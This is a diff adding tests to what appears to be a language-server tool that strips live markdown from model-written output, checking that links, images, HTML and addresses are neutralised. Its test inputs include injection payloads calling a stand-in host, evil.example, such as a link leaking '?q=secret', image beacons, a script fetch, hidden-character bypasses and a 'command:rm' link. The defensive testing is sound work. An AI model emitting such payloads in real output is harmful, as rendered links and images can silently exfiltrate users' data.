@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import random
+import re
 import time
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from lens_lsp.oracle.marking import Sifter, unsupported
 from lens_lsp.oracle.prompts import TRAILER
@@ -42,6 +44,63 @@ def test_markers_that_resolve_stay_and_others_go() -> None:
     shown, sifter = sifted("A [1], b [2, 9], c [7], d [^1], e [1; 2], f [x].", *[2] * 40)
     assert shown == "A [1], b [2], c , d [1], e [1][2], f [x]."
     assert sifter.dropped == 2
+
+
+GFM = MarkdownIt("commonmark").enable("table")
+
+
+def live(text: str) -> set[str]:
+    """What a renderer makes of a text beside words."""
+    kinds = {token.type for block in GFM.parse(text) for token in (block, *(block.children or ()))}
+    return kinds & {"link_open", "image", "html_inline", "html_block"}
+
+
+HOSTILE = (
+    "See [the plan](https://evil.example/?q=secret).",
+    "![x](https://evil.example/a.png)",
+    "![x][r] and [y][r] and [r]\n\n[r]: https://evil.example/b.png",
+    "[a\nb]: https://evil.example\n\n[a b]",
+    "<img src=https://evil.example/c.png>",
+    "</p><script>fetch('//evil.example')</script>",
+    "<https://evil.example/d> and <mail@evil.example>",
+    "<!-- x --> <?php x ?> <![CDATA[x]]>",
+    "[x][7](https://evil.example) and [y][7, 8](https://evil.example)",
+    "[z]\u200b(https://evil.example) <\u2060img src=x>",
+    "[1](command:rm) [1]: vscode://evil.example",
+    "> - [r]: https://evil.example 'x'\n\n[r]",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_that_a_model_wrote_is_live(text: str) -> None:
+    assert live(text.replace("\u200b", "").replace("\u2060", "").replace("[7]", "").replace("[7, 8]", ""))
+    for size in range(1, 12):
+        shown, _ = sifted(text, *[size] * len(text))
+        assert live(shown) == set()
+        assert not re.search(r"\w+://|www\.", shown)
+
+
+@given(st.lists(st.sampled_from(["[x]", "]", "(", ":", "<", "img ", "!", "[1]", "[7, 9]", "\u200b", " ", "\n", "a"])))
+def test_no_mixture_of_brackets_is_live(parts: list[str]) -> None:
+    text = "".join(parts) + "https://evil.example/)"
+    for size in (1, 3):
+        assert live(sifted(text, *[size] * len(text))[0]) == set()
+
+
+def test_an_address_that_the_evidence_holds_stays_and_no_other() -> None:
+    text = "It is at https://good.example/a, not www.evil.example/?q=1 or https://good.example/a?q=secret."
+    for size in range(1, 30):
+        sifter = Sifter((1,), ["Found at https://good.example/a today."])
+        shown = "".join(sifter.feed(text[at : at + size]) for at in range(0, len(text), size)) + sifter.finish()
+        wanted = "It is at https://good.example/a, not www .evil.example/?q=1 or https: //good.example/a?q=secret."
+        assert shown == wanted
+
+
+def test_a_word_without_end_hides_no_address() -> None:
+    for before in range(1_980, 2_010):
+        text = "(" * before + "https://evil.example/x"
+        for size in (1, 7, 5_000):
+            assert "https://" not in sifted(text, *[size] * len(text))[0]
 
 
 def test_controls_and_hidden_characters_are_no_answer() -> None:
